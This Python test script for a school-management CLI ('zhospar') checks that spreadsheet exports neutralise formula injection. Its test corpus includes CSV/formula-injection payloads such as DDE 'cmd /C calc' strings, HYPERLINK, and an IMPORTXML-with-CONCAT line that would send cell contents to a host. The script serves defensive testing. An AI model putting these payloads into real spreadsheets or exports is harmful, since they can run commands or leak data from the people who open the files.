"""Puts 200 texts that a program for sheets could take for a formula into every register, and reads every list back.

Usage: read_lists.py PATH-OF-ZHOSPAR-CLI

Makes the demo school in a temporary folder, types the texts into titles, notes and names through the real commands, writes
every list and the year's workbook, and checks with openpyxl that each is the string it was, and nothing is anything else.
"""

import itertools
import json
import os
import subprocess
import sys
import tempfile
import unittest
import zipfile
from datetime import date, timedelta
from pathlib import Path

import openpyxl

# What a text begins with: signs of formulas, kinds of blanks before them, quotes, and letters that look like the signs.
STARTS = (
    "=", "+", "-", "@", "\t=", "\r=", " =", "  +", "'=", '"=', "''=", "`=", "＝", "＋", "－", "＠", "−", "–", "—", "﹣",
    "=+", "=-", "+-", "@@", "%0A-", "|", ";=", ",=", "\u200b=", "\u00a0=", "\ufeff=", "\u202e=", "\x01=", "{=", "<b>=",
)
BODIES = (
    "1+1",
    'HYPERLINK("http://example.org","бас")',
    "cmd|' /C calc'!A0",
    'IMPORTXML(CONCAT("http://example.org/?v=",A1),"//a")',
    'DDE("cmd";"/C calc";"x")',
    "SUM(A1:A9)*_x000D_",
)
CORPUS = [start + body for start, body in itertools.product(STARTS, BODIES)]
LISTS = (
    "plan", "plan_changes", "evidence", "incidents", "incidents_of_year", "notices", "meetings", "agenda_items",
    "decisions", "decisions_of_year", "tasks", "tasks_of_year", "people", "holdings", "report_items", "report_figures",
    "report_versions", "terms", "days_off", "accounts", "operations", "history", "incident_timeline", "identity_readings",
    "meeting_agenda", "attendance", "classifiers", "checklists", "plan_approvals", "minutes_versions", "incident_tools",
)
# The chair of the demo school keeps the lists; sealed names are for the director.
READERS = {"identity_readings": "director"}
SEALED = ("Құпиясова", "Айнамкөз")


class Cli:
    def __init__(self, program, place, account="demo"):
        self.start = [program, "--school", str(place / "school"), "--account", account, "--json"]
        self.environment = dict(os.environ, ZHOSPAR_PASSWORD="demo-demo-demo", ZHOSPAR_DATA=str(place / "data"))
        self.lines = place / "lines.json"

    def __call__(self, *arguments):
        done = subprocess.run(
            [*self.start, *arguments], env=self.environment, stdin=subprocess.DEVNULL, capture_output=True, text=True
        )
        if done.returncode != 0:
            raise AssertionError(f"zhospar-cli {arguments[:2]} ended with {done.returncode}: {done.stdout}{done.stderr}")
        return json.loads(done.stdout) if done.stdout.strip() else None

    def call(self, name, **request):
        reply = self("call", name, json.dumps(request))
        return reply["value"] if isinstance(reply, dict) and reply.get("kind") == "done" else reply

    def each(self, name, requests):
        self.lines.write_text("\n".join(json.dumps(one) for one in requests), encoding="utf-8")
        return self("call", name, "--each", str(self.lines))


def kk(text):
    return {"kk": text, "ru": "", "en": ""}


def in_cell(text):
    """What a cell keeps of a text: no control characters, one kind of line break, a blank for a tab."""
    text = text.replace("\r\n", "\n").replace("\r", "\n").replace("\t", " ")
    return "".join(letter for letter in text if letter == "\n" or not (ord(letter) < 32 or 127 <= ord(letter) < 160))


class Lists(unittest.TestCase):
    program = None

    @classmethod
    def setUpClass(cls):
        cls.folder = tempfile.TemporaryDirectory(prefix="zhospar-readers-")
        cls.place = Path(cls.folder.name)
        cls.cli = Cli(cls.program, cls.place)
        cls.cli("demo", "--lang", "kk")
        years = cls.cli.call("list_school_years")
        year = next(year for year in years if year["label"] == "2026-2027")
        cls.year, cls.begins = year["id"], year["starts_on"]
        cls.type_everywhere()
        cls.books, cls.filters = {}, {
            "tasks": {"group": "all"},
            "history": {"record_id": cls.edited},
            "incident_timeline": {"id": cls.incident},
            "identity_readings": {"id": cls.incident},
            "meeting_agenda": {"id": cls.meeting},
            "attendance": {"id": cls.meeting},
            "minutes_versions": {"id": cls.meeting},
        }
        for name in LISTS:
            narrowed = ["--filter", json.dumps(cls.filters[name])] if name in cls.filters else []
            file = cls.place / f"{name}.xlsx"
            cli = Cli(cls.program, cls.place, READERS.get(name, "demo"))
            cli("export", "list", name, str(file), "--lang", "kk", "--year", "2026-2027", *narrowed)
            cls.books[name] = openpyxl.load_workbook(file)
        cls.cli("export", "workbook", str(cls.place / "year.xlsx"), "--year", "2026-2027", "--lang", "kk")
        cls.books["the year"] = openpyxl.load_workbook(cls.place / "year.xlsx")

    @classmethod
    def tearDownClass(cls):
        cls.folder.cleanup()

    @classmethod
    def type_everywhere(cls):
        cli, when = cls.cli, {"occurred_on": "2026-11-02", "occurred_time": None, "occurred_approximate": False}
        when |= {"detected_on": "2026-11-02", "detected_time": None, "incident_type": "data_leak"}
        cli.each("register_incident", [
            {"what": text, "reported_by": text, "immediate_action": text, **when} for text in CORPUS
        ])
        person = cli.call("list_people", text="", include_left=False)[0]["id"]
        cli.each("give_task", [{"title": text, "note": text, "responsible_id": person} for text in CORPUS])
        cli.each("add_person", [{"surname": text, "given_name": text, "post": text, "phone": text[:20]} for text in CORPUS])
        first = date(2026, 9, 2)
        taken = {row["day"] for row in cli.call("list_days_off", school_year_id=cls.year)}
        days = (str(first + timedelta(days=count)) for count in range(355))
        free = [day for day in days if day not in taken]
        cli.each("add_day_off", [
            {"day": day, "kind": "holiday", "name": kk(text)} for day, text in zip(free, CORPUS)
        ])
        meeting = cli.call("call_meeting", body="council", held_on="2026-12-01")
        items = cli.each("add_agenda_item", [{"meeting_id": meeting, "title": kk(text)} for text in CORPUS])
        cli.each("record_decision", [
            {"agenda_item_id": item, "text": kk(text)} for item, text in zip(items, CORPUS)
        ])
        cli.each("add_report_item", [
            {"school_year_id": cls.year, "kind": "recommendation", "text": kk(text)} for text in CORPUS
        ])
        plan = cli.call("show_plan", school_year_id=cls.year, stage_ids=[], statuses=[], person_id=None, text="")
        rows = [row["id"] for stage in plan["stages"] for row in stage["activities"]]
        cli.each("edit_activity", [
            {"id": row, "field": field, "language": "kk", "text": text}
            for (row, field), text in zip(itertools.product(rows, ("title", "expected_document")), CORPUS[::4])
        ])
        cls.edited, cls.meeting = rows[0], meeting
        new = {"what": "Тізім", "reported_by": "мұғалім", "immediate_action": "жойылды", **when}
        cls.incident = cli.call("register_incident", **new)["id"]
        cli.each("add_incident_entry", [{"incident_id": cls.incident, "text": text} for text in CORPUS])
        sealed = {"incident_id": cls.incident, "kind": "pupil", "name": " ".join(SEALED), "contact": ""}
        pupil = cli.each("add_identity", [sealed])[0]["id"]
        director = Cli(cls.program, cls.place, "director")
        director.each("reveal_identity", [{"id": pupil, "reason": text} for text in CORPUS])
        # A list has no two words that look the same.
        cli.each("add_classifier", [
            {"list": "cause", "name": kk(f"{text} {at}"), "hint": kk(text)} for at, text in enumerate(CORPUS)
        ])
        cli.each("add_checklist_step", [
            {"incident_type": "data_leak", "title": kk(text), "due_count": 1, "due_unit": "hours"} for text in CORPUS
        ])
        members = cli.call("meeting", id=meeting)["attendees"]
        cls.reasons = [text for text in CORPUS if text[0] in "=+-@"][: len(members)]
        cli.each("set_attendance", [
            {"meeting_id": meeting, "person_id": member["person_id"], "present": False, "reason": reason}
            for member, reason in zip(members, cls.reasons)
        ])

    def texts(self, name):
        cells = [cell for sheet in self.books[name] for row in sheet.iter_rows() for cell in row]
        # A code that was typed is written with its first letter coded, which this reader leaves as it is.
        return [cell.value.replace("_x005F_", "_") for cell in cells if isinstance(cell.value, str)]

    def kept(self, name, field, **request):
        """The texts as a list's own command gives them."""
        rows = self.cli.call(name, **request)
        return [row[field]["kk"] if isinstance(row[field], dict) else row[field] for row in rows]

    def test_the_corpus_is_as_large_as_it_is_said_to_be(self):
        self.assertGreaterEqual(len(set(CORPUS)), 200)

    def test_no_cell_of_any_list_is_a_formula_or_leads_anywhere(self):
        for name, book in self.books.items():
            with self.subTest(name):
                cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
                self.assertEqual([cell.coordinate for cell in cells if cell.data_type == "f"], [])
                out = [cell.coordinate for cell in cells if cell.hyperlink and cell.hyperlink.target]
                self.assertEqual(out, [], "links stay inside the book")
                with zipfile.ZipFile(self.place / ("year.xlsx" if name == "the year" else f"{name}.xlsx")) as package:
                    parts = {part: package.read(part).decode() for part in package.namelist() if part.endswith(("xml", "rels"))}
                    for part, text in parts.items():
                        self.assertNotIn("<f>", text if part.startswith("xl/worksheets") else "", part)
                        self.assertNotIn('TargetMode="External"', text, part)

    def test_every_text_is_the_string_it_was(self):
        everything = {"group": "all", "responsible_id": None, "activity_id": None, "incident_id": None, "text": ""}
        of_year = {"school_year_id": self.year}
        tasks = self.kept("list_tasks", "title", **everything)
        # What was given in the year before stands in that year's workbook.
        given = [row["title"] for row in self.cli.call("list_tasks", **everything) if row["given_at"] >= self.begins]
        people = self.kept("list_people", "full_name", text="", include_left=False)
        decisions = self.kept("list_decisions", "text", **of_year)
        incidents = self.every_incident()
        items = self.cli.call("annual_report", **of_year)["items"]
        report = [item["text"]["kk"] for item in items]
        # What the registers bear out no longer is left out of the workbook, as it is of the paper.
        standing = [item["text"]["kk"] for item in items if item["truth"] != "gone"]
        days = self.kept("list_days_off", "name", **of_year)
        for register, typed, sheets in (
            ("incidents", incidents, ("incidents", "incidents_of_year", "the year")),
            ("tasks", tasks, ("tasks",)),
            ("tasks of the year", given, ("tasks_of_year", "the year")),
            ("people", people, ("people", "the year")),
            ("decisions", decisions, ("decisions",)),
            ("what the report says", report, ("report_items",)),
            ("what the report still says", standing, ("the year",)),
            ("days off", days, ("days_off",)),
        ):
            self.assertGreaterEqual(len(typed), 200, f"{register}: the texts were taken")
            plain = {text for text in typed if text.startswith(("=", "+", "-", "@", "'", '"', "＝", "−"))}
            self.assertGreater(len(plain), 60, f"{register}: they are kept as they were typed")
            for sheet in sheets:
                with self.subTest(f"{register} on {sheet}"):
                    found = set(self.texts(sheet))
                    self.assertEqual([text for text in typed if in_cell(text) not in found], [])

    def every_incident(self):
        found, after = [], None
        while True:
            page = self.cli.call(
                "list_incidents", school_year_id=self.year, group="all", types=[], severities=[], text="", after=after,
                limit=200,
            )
            found += [row["what"] for row in page["items"]]
            after = page["next"]
            if after is None:
                return found

    def test_the_history_of_a_row_tells_what_was_typed_into_it(self):
        told = self.texts("history")
        for text in (CORPUS[0], CORPUS[4]):
            self.assertIn(in_cell(text), told)

    def test_the_lists_of_one_record_and_of_the_settings_hold_what_was_typed(self):
        director = Cli(self.program, self.place, "director")
        entries = [entry["text"] for entry in self.cli.call("incident", id=self.incident)["entries"]]
        readings = [one["reason"] for one in director.call("list_identity_readings", id=self.incident)]
        words = self.kept("list_classifiers", "name", list="cause")
        steps = self.kept("list_checklists", "title", incident_type="data_leak")
        agenda = [item["title"]["kk"] for item in self.cli.call("meeting", id=self.meeting)["agenda"]]
        for sheet, typed, least in (
            ("incident_timeline", entries, 200), ("identity_readings", readings, 200), ("classifiers", words, 200),
            ("checklists", steps, 200), ("meeting_agenda", agenda, 200), ("attendance", self.reasons, 3),
        ):
            with self.subTest(sheet):
                self.assertGreaterEqual(len(typed), least, "the texts were taken")
                found = set(self.texts(sheet))
                self.assertEqual([text for text in typed if in_cell(text) not in found], [])

    def test_no_sheet_holds_a_sealed_name(self):
        for name in self.books:
            with self.subTest(name):
                told = [text for text in self.texts(name) if any(part in text for part in SEALED)]
                self.assertEqual(told, [])

    def test_agenda_and_plan_hold_them_too(self):
        agenda, plan = set(self.texts("agenda_items")), set(self.texts("plan"))
        signs = [text for text in CORPUS if text[0] in "=+-@"]
        self.assertEqual([text for text in signs if text not in agenda], [])
        self.assertGreater(len([text for text in signs if text in plan]), 3)


if __name__ == "__main__":
    if len(sys.argv) != 2:
        sys.exit(__doc__)
    Lists.program = sys.argv.pop()
    unittest.main(verbosity=2)
